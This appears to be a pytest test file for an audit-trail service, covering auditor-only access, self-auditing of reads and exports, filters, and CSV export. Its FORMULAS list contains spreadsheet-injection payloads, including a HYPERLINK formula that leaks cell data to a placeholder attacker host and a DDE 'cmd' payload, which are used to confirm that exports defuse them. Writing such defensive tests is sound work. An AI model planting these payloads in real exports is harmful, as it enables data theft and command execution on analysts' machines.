"""Oversight reads the trail: auditors only, and their reading is itself on the trail."""

from __future__ import annotations

import csv
import io

import pytest

from counterflow.audit import AuditAction, AuditFilter, browse, export_csv, record, verify
from counterflow.audit.service import EXPORT_COLUMNS
from counterflow.model.errors import PermissionDeniedError
from counterflow.store import transaction


def test_browse_is_for_auditors_only(sessions, append, non_auditors, all_events) -> None:
    append(2)
    for actor in non_auditors:
        with sessions() as session:
            with pytest.raises(PermissionDeniedError):
                browse(session, actor=actor)
            with pytest.raises(PermissionDeniedError):
                export_csv(session, actor=actor)
    assert len(all_events()) == 2


def test_browse_pages_newest_first(sessions, auditor, append) -> None:
    append(3)
    with transaction(sessions) as session:
        rows, total = browse(session, actor=auditor)
        assert [e.seq for e in rows] == [3, 2, 1]
        assert total == 3
        page, total = browse(session, actor=auditor, limit=2, offset=1)
        # The first browse is an event now (seq 4): newest first, skip one.
        assert [e.seq for e in page] == [3, 2]
        assert total == 4


def test_browsing_is_itself_audited(sessions, auditor, append, all_events) -> None:
    append(2)
    with transaction(sessions) as session:
        browse(session, actor=auditor, where=AuditFilter(case_id=101))
    last = all_events()[-1]
    assert (last.seq, last.action, last.object_type) == (3, "read", "audit_trail")
    assert (last.actor_username, last.actor_role) == ("ovs.auditor", "auditor")
    assert '"case_id":101' in last.detail
    assert '"shown":1' in last.detail
    with sessions() as session:
        assert verify(session).ok


def test_browse_filters(sessions, auditor, investigator, append) -> None:
    append(3)
    with transaction(sessions) as session:
        record(
            session,
            actor=None,
            username="intruder",
            action=AuditAction.LOGIN_FAILED,
            object_type="user",
            object_id="intruder",
        )
    with transaction(sessions) as session:
        rows, total = browse(session, actor=auditor, where=AuditFilter(case_id=101))
        assert (total, [e.case_id for e in rows]) == (1, [101])
        rows, total = browse(session, actor=auditor, where=AuditFilter(username="intruder"))
        assert (total, [e.action for e in rows]) == (1, ["login_failed"])
        rows, total = browse(session, actor=auditor, where=AuditFilter(action="login_failed"))
        assert total == 1
        rows, total = browse(session, actor=auditor, where=AuditFilter(agency="NP"))
        assert total == 3
        assert {e.actor_username for e in rows} == {investigator.username}
        first = min(rows, key=lambda e: e.seq)
        rows, total = browse(session, actor=auditor, where=AuditFilter(until=first.at))
        assert total == 0
        rows, total = browse(
            session, actor=auditor, where=AuditFilter(since=first.at, object_type="case")
        )
        assert total == 3


def rows_of(csv_text: str) -> list[dict[str, str]]:
    reader = csv.reader(io.StringIO(csv_text))
    header = next(reader)
    assert tuple(header) == EXPORT_COLUMNS
    return [dict(zip(header, row, strict=True)) for row in reader]


def test_export_csv_gives_every_event_with_its_hashes(
    sessions, auditor, append, all_events
) -> None:
    append(3)
    with transaction(sessions) as session:
        exported = rows_of(export_csv(session, actor=auditor))
    events = all_events()
    assert [r["seq"] for r in exported] == ["1", "2", "3"]
    assert [r["hash"] for r in exported] == [e.hash for e in events[:3]]
    assert [r["prev_hash"] for r in exported] == [e.prev_hash for e in events[:3]]
    assert exported[0]["detail"] == events[0].detail
    # The export is audited, with how many rows left the system.
    assert (events[-1].action, events[-1].object_type) == ("export", "audit_trail")
    assert '"rows":3' in events[-1].detail


def test_export_csv_filters(sessions, auditor, append) -> None:
    append(3)
    with transaction(sessions) as session:
        exported = rows_of(export_csv(session, actor=auditor, where=AuditFilter(case_id=102)))
    assert [r["case_id"] for r in exported] == ["102"]


FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1",
]


def test_export_csv_defuses_formulas(sessions, auditor) -> None:
    # A failed sign-in stores the user name the attacker typed: the likeliest way in.
    with transaction(sessions) as session:
        for username in [*FORMULAS, "plain.user"]:
            record(
                session,
                actor=None,
                username=username,
                action=AuditAction.LOGIN_FAILED,
                object_type="user",
                object_id=username,
                reason=username,
            )
    with transaction(sessions) as session:
        *bad, plain = rows_of(export_csv(session, actor=auditor))
    assert len(bad) == len(FORMULAS)
    for row, payload in zip(bad, FORMULAS, strict=True):
        for column in ("actor_username", "object_id", "reason"):
            assert row[column] == "'" + payload
    assert (plain["actor_username"], plain["reason"]) == ("plain.user", "plain.user")
